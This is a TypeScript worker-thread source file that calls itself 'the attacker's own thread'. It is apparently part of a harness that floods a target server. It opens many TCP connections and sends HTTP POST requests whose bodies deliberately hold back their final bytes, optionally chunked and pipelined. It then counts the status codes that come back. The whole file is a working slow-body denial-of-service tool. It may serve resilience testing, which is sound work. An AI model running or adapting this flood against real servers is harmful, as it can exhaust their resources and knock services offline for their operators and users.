/** The attacker's own thread: sends bodies and keeps their last bytes back, then counts the answers by status. */
import { connect } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';
import { parentPort, workerData } from 'node:worker_threads';
import type { BodyFlood } from './bodies.ts';

const { url, stream, from, path, headers, bytes, withheld, connections, stays, tiny, ahead } =
  workerData as BodyFlood & { url: string; stream?: string };
const { host, hostname, port } = new URL(url);
const length = tiny ? 'Transfer-Encoding: chunked' : `Content-Length: ${bytes}`;
const head = `POST ${path} HTTP/1.1\r\nHost: ${host}\r\n${[length, ...headers].join('\r\n')}\r\n\r\n`;
const sent = bytes - withheld;
const body = tiny ? '1\r\n \r\n'.repeat(sent) : ' '.repeat(sent);
const first = stream === undefined ? '' : `GET ${stream} HTTP/1.1\r\nHost: ${host}\r\n\r\n`;

const answers: Record<string, number> = {};
const sockets = Array.from({ length: connections }, () =>
  connect({ host: hostname, port: Number(port), localAddress: from }),
);
for (const socket of sockets) {
  socket.on('error', () => {});
  socket.once('data', (answer) => {
    const status = String(answer).slice(9, 12);
    answers[status] = (answers[status] ?? 0) + 1;
  });
  socket.write(first + (head + body).repeat(ahead ?? 1));
}
await pause(stays);
for (const socket of sockets) socket.destroy();
parentPort!.postMessage(answers);
